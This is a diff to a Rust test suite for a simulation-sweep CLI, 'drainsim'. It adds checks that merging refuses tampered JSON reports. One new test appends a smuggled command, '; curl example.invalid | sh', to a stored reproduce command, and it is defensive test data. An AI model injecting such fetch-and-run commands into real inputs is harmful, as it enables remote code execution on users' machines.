@@ -235,6 +235,15 @@ fn failing_seeds_exit_1_with_a_reproduce_command_each() {
     assert_eq!(rerun.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&rerun.stdout).contains("FAIL web minHealthyObserved >= 3"));
 
+    // A merge prints what it reads: a reproduce command edited into something else is refused.
+    let edited = String::from_utf8_lossy(&out.stdout).replacen(" --seed 13\"", " --seed 13; curl example.invalid | sh\"", 1);
+    assert!(edited.contains("curl"), "the edit took");
+    let f = dir.join("edited.json");
+    std::fs::write(&f, edited).unwrap();
+    let merged = drainsim(&["sweep", "--merge", f.to_str().unwrap()]);
+    assert_eq!(merged.status.code(), Some(2));
+    assert!(stderr(&merged).contains("the failure of seed 13 reproduces with something else"), "{}", stderr(&merged));
+
     // The text output lists the commands too.
     let text = drainsim(&["sweep", &file, "--seeds", "10..13"]);
     assert_eq!(text.status.code(), Some(1));
@@ -398,6 +407,11 @@ fn merge_refuses_counts_that_cannot_be_right() {
     late.distribution.all_drains_completed_at_ms.histogram.last_mut().unwrap().0 = u64::MAX;
     let err = sweep::parse_report("late.json", &sweep::render_json(&late).unwrap()).expect_err("refused");
     assert!(err.starts_with("late.json: the drain histogram's times are not increasing simulated times"), "{err}");
+    // A maximum or percentile edited apart from its histogram would reach the merged result as it is.
+    let mut slow = report.clone();
+    slow.distribution.all_drains_completed_at_ms.max = Some(1_000_000_000);
+    let err = sweep::parse_report("slow.json", &sweep::render_json(&slow).unwrap()).expect_err("refused");
+    assert!(err.starts_with("slow.json: allDrainsCompletedAtMs: p50, p95 and max are not those of its histogram"), "{err}");
     let mut twice = report.clone();
     let first = twice.distribution.services[0].clone();
     twice.distribution.services.push(first);
